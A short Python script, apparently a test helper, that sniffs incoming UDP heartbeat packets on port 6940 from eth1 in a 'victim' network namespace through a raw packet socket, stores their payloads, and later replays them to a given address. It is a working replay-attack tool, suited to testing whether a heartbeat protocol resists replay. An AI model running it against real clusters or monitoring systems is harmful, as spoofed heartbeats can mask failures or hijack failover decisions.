#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Records COUNT heartbeats for port 6940 that come in on eth1; sends each to ADDRESS when told to.

First run: replay.py record FILE COUNT, in the victim's namespace.
Second run: replay.py send FILE ADDRESS, anywhere."""
import socket
import struct
import sys

PORT = 6940


def record(path, count):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as packets, open(path, "wb") as file:
        packets.bind(("eth1", 0x0800))
        while count:
            packet, source = packets.recvfrom(65535)
            head = (packet[0] & 15) * 4
            if source[2] == socket.PACKET_OUTGOING or packet[9] != socket.IPPROTO_UDP:
                continue
            if struct.unpack_from("!H", packet, head + 2)[0] != PORT:
                continue
            payload = packet[head + 8 : struct.unpack_from("!H", packet, 2)[0]]
            file.write(struct.pack("!H", len(payload)) + payload)
            count -= 1


def send(path, address):
    with open(path, "rb") as file, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        while length := file.read(2):
            sender.sendto(file.read(struct.unpack("!H", length)[0]), (address, PORT))


if sys.argv[1] == "record":
    record(sys.argv[2], int(sys.argv[3]))
else:
    send(sys.argv[2], sys.argv[3])
